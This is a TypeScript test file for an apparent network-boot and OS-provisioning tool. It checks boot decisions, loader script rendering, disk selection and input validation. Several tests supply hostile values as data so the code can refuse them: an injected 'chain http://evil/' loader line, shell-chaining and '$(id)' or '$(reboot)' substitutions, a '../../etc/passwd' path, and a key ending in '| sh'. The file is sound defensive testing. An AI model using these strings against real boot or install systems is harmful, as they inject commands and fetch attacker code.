import { expect, test } from 'vitest';
import {
  chooseDisks,
  conduitsClash,
  decideBoot,
  makeInstallPlan,
  readConduit,
  renderNames,
  resolveConduit,
  type BootFacts,
  type Disk,
} from '../src/index.ts';
import { renderGrub, renderIpxe } from '../src/boot/render-script.ts';
import { mayFollow, PHASES } from '../src/install/phase.ts';
import { beginsAttempt } from '../src/recorder/record.ts';
import { renderTemplate } from '../src/template/render.ts';
import { isDnsName, readMac, readSerial, readUuid } from '../src/valid.ts';

const facts = (over: Partial<BootFacts> = {}): BootFacts => ({
  node: { id: 1, name: 'n1', bootenv: 'local' },
  contested: false,
  openIntent: null,
  install: null,
  unknownMachines: 'discovery',
  flooded: false,
  ...over,
});
const install = (over: Partial<NonNullable<BootFacts['install']>> = {}) => ({
  phase: 'installing',
  wipeGranted: false,
  boots: 1,
  bootenv: 'x-install',
  ...over,
});

test('B5: without an open intent the answer is the own disk, whatever was installed before', () => {
  expect(decideBoot(facts())).toMatchObject({ kind: 'local' });
  expect(
    decideBoot(facts({ node: { id: 1, name: 'n1', bootenv: 'debian-12-install' } })),
  ).toMatchObject({ kind: 'local' });
});

test('a machine whose installer may have written is never given an installer again', () => {
  expect(decideBoot(facts({ install: install({ wipeGranted: true }) }))).toMatchObject({
    kind: 'interrupted',
    bootenv: 'discovery',
  });
  expect(
    decideBoot(
      facts({
        install: install({ wipeGranted: true }),
        openIntent: { id: 9, bootenv: 'x-install' },
      }),
    ),
  ).toMatchObject({ kind: 'interrupted' });
});

test('a power cut before the disk was touched resumes, but not for ever', () => {
  expect(decideBoot(facts({ install: install() }))).toMatchObject({
    kind: 'make',
    bootenv: 'x-install',
  });
  expect(decideBoot(facts({ install: install({ boots: 3 }) }))).toMatchObject({
    kind: 'interrupted',
  });
});

test('A8: after the installer has finished the machine boots from its disk', () => {
  expect(
    decideBoot(facts({ install: install({ phase: 'restart', wipeGranted: true }) })),
  ).toMatchObject({ kind: 'local' });
});

test('strangers are discovered, unless they flood or the operator said no', () => {
  expect(decideBoot(facts({ node: null }))).toMatchObject({ kind: 'make', bootenv: 'discovery' });
  expect(decideBoot(facts({ node: null, flooded: true }))).toMatchObject({
    kind: 'local',
    refused: true,
  });
  expect(decideBoot(facts({ node: null, unknownMachines: 'local' }))).toMatchObject({
    kind: 'local',
  });
  expect(decideBoot(facts({ node: null, contested: true }))).toMatchObject({
    kind: 'local',
    refused: true,
  });
});

test('no phase of an installation leads back', () => {
  for (const [index, from] of PHASES.entries()) {
    for (const to of PHASES.slice(0, index + 1)) expect(mayFollow(from, to)).toBe(false);
  }
});

test('nothing a machine or a person said becomes a command of a loader', () => {
  const script = {
    baseUrl: 'http://10.0.0.1',
    kernel: 'discovery/vmlinuz',
    initrds: ['discovery/initrd.img'],
    cmdline: 'quiet',
    seed: null,
    reason: 'x\nchain http://evil/',
  };
  expect(
    renderIpxe(script)
      .split('\n')
      .filter((line) => line.startsWith('chain')),
  ).toEqual([]);
  expect(
    renderGrub(script)
      .split('\n')
      .filter((line) => line.startsWith('chain')),
  ).toEqual([]);
  for (const cmdline of ['quiet\nshell', 'a ${net0/mac}', 'x || shell', "a'b", 'a;b']) {
    expect(() => renderIpxe({ ...script, cmdline })).toThrow(/no loader may read/);
  }
  expect(() => renderGrub({ ...script, kernel: '../../etc/passwd' })).toThrow();
});

test('placeholders of vendors identify nobody', () => {
  expect(readUuid('03000200-0400-0500-0006-000700080009')).toBeNull();
  expect(readSerial('To be filled by O.E.M.')).toBeNull();
  expect(readSerial('$(reboot)')).toBeNull();
  expect(readMac('52-54-00-AA-bb-01')).toBe('52:54:00:aa:bb:01');
  expect(readMac('00:00:00:00:00:00')).toBeNull();
  expect(isDnsName('a..b')).toBe(false);
});

const subject = {
  node: {
    id: 7,
    name: 'web1',
    mac: '52:54:00:00:00:07',
    deployment: 'shop',
    roles: ['web'],
    labels: { rack: 'r1' },
  },
  network: { name: 'admin', category: 'admin', domain: 'lab.test' },
  range: { name: 'host' },
};
const filter = (template: string, matcher: Record<string, string> = {}, priority = 1) => ({
  name: template,
  priority,
  matcher,
  template,
});

test('all matching name filters apply, and a bad one spoils nothing', () => {
  const filters = [
    filter('{{node.name}}', { 'network.category': 'admin' }),
    filter('d{{node.mac}}', { 'node.role': 'web' }, 2),
    filter('{{node.name}}.{{node.deployment}}.example', { 'node.label.rack': 'r1' }, 3),
    filter('never', { 'node.role': 'db' }, 4),
    filter('{{node.secret}}', {}, 5),
    filter('a b', {}, 6),
  ];
  const { names, errors } = renderNames(filters, subject);
  expect(names).toEqual(['web1.lab.test', 'd52-54-00-00-00-07.lab.test', 'web1.shop.example']);
  expect(errors).toHaveLength(2);
});

test('a conduit finds the same NICs however the kernel named them', () => {
  const nics = [
    { mac: 'b', megabits: 10_000, bus: '0000:02' },
    { mac: 'a', megabits: 1000, bus: '0000:01' },
    { mac: 'c', megabits: 10_000, bus: '0000:03' },
  ];
  expect(resolveConduit('10g0,10g1', nics)).toEqual({ ok: true, macs: ['b', 'c'] });
  expect(resolveConduit('+1g0', nics)).toEqual({ ok: true, macs: ['a'] });
  expect(resolveConduit('?25g0', nics)).toEqual({ ok: true, macs: ['b'] });
  expect(resolveConduit('40g0', nics)).toMatchObject({ ok: false });
  expect(readConduit('1g0,1g0')).toMatchObject({ ok: false });
  expect(conduitsClash(['a', 'b'], ['b'])).toBe(true);
  expect(conduitsClash(['a', 'b'], ['b', 'a'])).toBe(false);
});

const disk = (name: string, over: Partial<Disk> = {}): Disk => ({
  name,
  serial: `S-${name}`,
  bytes: 8e9,
  rotational: false,
  removable: false,
  signatures: [],
  ...over,
});

test('a disk is never guessed', () => {
  expect(chooseDisks([disk('vda')], {})).toMatchObject({ ok: true, disks: [{ name: 'vda' }] });
  expect(chooseDisks([disk('vda'), disk('vdb')], {})).toMatchObject({ ok: false });
  expect(chooseDisks([disk('vda'), disk('vdb')], { rule: 'first' })).toMatchObject({
    ok: true,
    disks: [{ name: 'vda' }],
  });
  expect(
    chooseDisks([disk('vda'), disk('vdb', { bytes: 4e9 })], { rule: 'smallest' }),
  ).toMatchObject({ ok: true, disks: [{ name: 'vdb' }] });
  expect(chooseDisks([disk('vda'), disk('vdb')], { serials: ['S-vdb'] })).toMatchObject({
    ok: true,
    disks: [{ name: 'vdb' }],
  });
  expect(chooseDisks([disk('vda', { serial: '' }), disk('vdb')], { rule: 'first' })).toMatchObject({
    ok: false,
  });
  expect(chooseDisks([disk('usb', { removable: true })], {})).toMatchObject({ ok: false });
});

test('everything wrong with an installation is named at once, and nothing odd is let through', () => {
  const template = { name: 'debian-12', kind: 'preseed' as const, data: {} };
  const bad = makeInstallPlan({
    attribs: {
      hostname: 'a b; reboot',
      layout: 'raid9',
      user: 'root\nx',
      ssh_keys: ['ssh-ed25519 AAA" | sh'],
      mirror: 'http://x/$(id)',
      password_hash: 'secret',
      packages: ['a;b'],
      timezone: '$(id)',
    },
    nodeName: 'n1',
    disks: [disk('vda')],
    template,
    image: null,
  });
  expect(bad.ok ? [] : bad.refusals.map((refusal) => refusal.path)).toEqual([
    'hostname',
    'layout',
    'user',
    'ssh_keys/0',
    'password_hash',
    'mirror',
    'timezone',
    'packages/0',
  ]);
});

test('a template value can add no line and no quote', () => {
  expect(
    renderTemplate('{{#if a}}x={{a}}\n{{/if}}{{#each b}}- {{this}}\n{{/each}}', {
      a: '1',
      b: ['p', 'q'],
    }),
  ).toBe('x=1\n- p\n- q\n');
  for (const value of ['a\nb', 'a"b', "a'b", 'a`b', 'a\\b', 'a\u0000b']) {
    expect(() => renderTemplate('{{a}}', { a: value })).toThrow(/may not take/);
  }
  expect(() => renderTemplate('{{nope}}', {})).toThrow(/there is not/);
});

test('a second "what shall I boot" is a second boot attempt, a lost packet is not', () => {
  const event = (kind: 'power' | 'dhcp' | 'script' | 'file', text = '', pxe = false) => ({
    kind,
    text,
    detail: { pxe },
  });
  const told = { id: 1, told: true, settled: true, quiet: false };
  const fresh = { id: 1, told: false, quiet: false };
  expect(beginsAttempt(undefined, event('dhcp'))).toBe(true);
  expect(beginsAttempt(fresh, event('script'))).toBe(false);
  expect(beginsAttempt(told, event('script'))).toBe(true);
  expect(beginsAttempt(told, event('dhcp', '', true))).toBe(true);
  expect(beginsAttempt(told, event('dhcp'))).toBe(false);
  expect(beginsAttempt(told, event('file'))).toBe(false);
  expect(beginsAttempt(fresh, event('power', 'reset'))).toBe(true);
  expect(beginsAttempt(fresh, event('power', 'status'))).toBe(false);
});
